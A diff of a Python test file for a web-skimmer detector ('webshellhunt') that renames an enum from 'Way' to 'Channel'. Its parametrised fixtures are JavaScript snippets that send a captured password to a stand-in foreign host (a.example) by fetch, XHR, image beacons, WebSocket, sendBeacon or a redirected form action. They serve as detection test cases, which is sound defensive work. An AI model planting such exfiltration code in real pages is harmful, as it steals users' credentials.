@@ -9,7 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from webshellhunt.client_scripts.browsed import Browsed, Script, browse
-from webshellhunt.client_scripts.ways import Destination, Way
+from webshellhunt.client_scripts.channels import Channel, Destination
 from webshellhunt.decoding.charset import DecodedText
 from webshellhunt.pages.includes.resolver import Resolution
 from webshellhunt.pages.page import Dependency, DependencyKind
@@ -26,8 +26,8 @@ def browsed(script: str) -> Browsed:
     return browse(f"{FIELD}<script>{script}</script>", nothing, is_script=False)
 
 
-def roads(script: str) -> list[tuple[Way, Destination]]:
-    return [(leak.way, leak.address.destination) for leak in browsed(script).leaks]
+def roads(script: str) -> list[tuple[Channel, Destination]]:
+    return [(leak.channel, leak.address.destination) for leak in browsed(script).leaks]
 
 
 @pytest.mark.parametrize(
@@ -48,7 +48,7 @@ def roads(script: str) -> list[tuple[Way, Destination]]:
     ],
 )
 def test_a_password_is_known_however_it_is_taken(value: str) -> None:
-    assert roads(f'fetch("//a.example", {value});') == [(Way.REQUEST, Destination.FOREIGN)]
+    assert roads(f'fetch("//a.example", {value});') == [(Channel.REQUEST, Destination.FOREIGN)]
 
 
 @pytest.mark.parametrize(
@@ -71,28 +71,28 @@ def test_what_says_nothing_of_the_password_is_let_out(value: str) -> None:
 
 
 @pytest.mark.parametrize(
-    ("sink", "way", "destination"),
+    ("sink", "channel", "destination"),
     [
-        ('x.open("GET", "//a.example/?" + p); x.send();', Way.REQUEST, Destination.FOREIGN),
-        ('x.open("POST", "/login"); x.send(p);', Way.REQUEST, Destination.OWN),
-        ('new Image().src = "/x.gif?" + p;', Way.BEACON, Destination.SENT),
-        ('i.setAttribute("src", "//a.example/" + p);', Way.BEACON, Destination.FOREIGN),
-        ("document.cookie = p;", Way.COOKIE, Destination.KEPT),
-        ("sessionStorage.a = p;", Way.STORAGE, Destination.KEPT),
-        ('localStorage["a"] = p;', Way.STORAGE, Destination.KEPT),
-        ('location.href = "//a.example/?" + p;', Way.NAVIGATION, Destination.FOREIGN),
-        ('w = new WebSocket("wss://a.example"); w.send(p);', Way.SOCKET, Destination.FOREIGN),
-        ('$.ajax({ type: "POST", url: "//a.example", data: p });', Way.REQUEST, Destination.FOREIGN),
-        ('navigator.sendBeacon("//a.example", p);', Way.REQUEST, Destination.FOREIGN),
-        ('var f = new FormData(); f.append("a", p); fetch("//a.example", f);', Way.REQUEST, Destination.FOREIGN),
-        ('function go(u, d) { fetch(u, d); } go("//a.example", p);', Way.REQUEST, Destination.FOREIGN),
-        ('const go = d => { fetch("//a.example", d); }; go(p);', Way.REQUEST, Destination.FOREIGN),
-        ('function q() { return p; } fetch("//a.example", q());', Way.REQUEST, Destination.FOREIGN),
-        ('var h = "//a"; var u = h + ".example"; fetch(u, p);', Way.REQUEST, Destination.FOREIGN),
+        ('x.open("GET", "//a.example/?" + p); x.send();', Channel.REQUEST, Destination.FOREIGN),
+        ('x.open("POST", "/login"); x.send(p);', Channel.REQUEST, Destination.OWN),
+        ('new Image().src = "/x.gif?" + p;', Channel.BEACON, Destination.SENT),
+        ('i.setAttribute("src", "//a.example/" + p);', Channel.BEACON, Destination.FOREIGN),
+        ("document.cookie = p;", Channel.COOKIE, Destination.KEPT),
+        ("sessionStorage.a = p;", Channel.STORAGE, Destination.KEPT),
+        ('localStorage["a"] = p;', Channel.STORAGE, Destination.KEPT),
+        ('location.href = "//a.example/?" + p;', Channel.NAVIGATION, Destination.FOREIGN),
+        ('w = new WebSocket("wss://a.example"); w.send(p);', Channel.SOCKET, Destination.FOREIGN),
+        ('$.ajax({ type: "POST", url: "//a.example", data: p });', Channel.REQUEST, Destination.FOREIGN),
+        ('navigator.sendBeacon("//a.example", p);', Channel.REQUEST, Destination.FOREIGN),
+        ('var f = new FormData(); f.append("a", p); fetch("//a.example", f);', Channel.REQUEST, Destination.FOREIGN),
+        ('function go(u, d) { fetch(u, d); } go("//a.example", p);', Channel.REQUEST, Destination.FOREIGN),
+        ('const go = d => { fetch("//a.example", d); }; go(p);', Channel.REQUEST, Destination.FOREIGN),
+        ('function q() { return p; } fetch("//a.example", q());', Channel.REQUEST, Destination.FOREIGN),
+        ('var h = "//a"; var u = h + ".example"; fetch(u, p);', Channel.REQUEST, Destination.FOREIGN),
     ],
 )
-def test_each_way_out_is_seen(sink: str, way: Way, destination: Destination) -> None:
-    assert (way, destination) in roads(TAKEN + sink)
+def test_each_way_out_is_seen(sink: str, channel: Channel, destination: Destination) -> None:
+    assert (channel, destination) in roads(TAKEN + sink)
 
 
 def test_a_name_means_another_variable_in_another_function() -> None:
@@ -113,7 +113,7 @@ def test_keys_are_followed_from_their_handler() -> None:
 
 
 def test_a_form_is_sent_elsewhere() -> None:
-    assert roads('document.forms[0].action = "https://a.example/";') == [(Way.FORM, Destination.FOREIGN)]
+    assert roads('document.forms[0].action = "https://a.example/";') == [(Channel.FORM, Destination.FOREIGN)]
     found = browse('<form action="//a.example/"><input type=password></form>', nothing, is_script=False)
     assert [address.shown for _, address in found.foreign_forms] == ["a.example"]
 
